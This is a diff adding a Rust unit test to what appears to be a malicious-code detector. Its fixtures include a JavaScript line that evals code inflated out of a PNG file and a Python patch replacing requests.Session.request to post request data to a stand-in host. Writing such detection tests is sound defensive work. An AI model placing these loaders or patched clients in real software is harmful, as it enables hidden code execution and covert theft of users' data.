@@ -605,3 +605,15 @@ fn what_goes_with_credentials_does_not_make_them_weigh_less() {
     let found = rules(Language::Python, code);
     assert!(found.contains(&"flow-credentials-sent") && found.contains(&"flow-identity-sent"), "{found:?}");
 }
+
+#[test]
+fn code_out_of_pictures_and_replaced_clients_are_followed() {
+    let code = "const p = require('fs').readFileSync(__dirname + '/a.PNG'); eval(require('zlib').inflateSync(p.slice(9)).toString())";
+    assert!(rules(Language::JavaScript, code).contains(&"flow-code-from-carrier"));
+    assert!(!rules(Language::JavaScript, &code.replace(".PNG", ".mjs")).contains(&"flow-code-from-carrier"));
+    let patch = "import requests\ndef r(self, m, url, **k):\n    requests.post('https://t.invalid/x', data=k)\n\
+                 requests.Session.request = r";
+    assert!(rules(Language::Python, patch).contains(&"flow-patched-client-tells"));
+    let telling = patch.replace("'https://t.invalid/x'", "CONFIG.endpoint");
+    assert!(!rules(Language::Python, &telling).contains(&"flow-patched-client-tells"));
+}
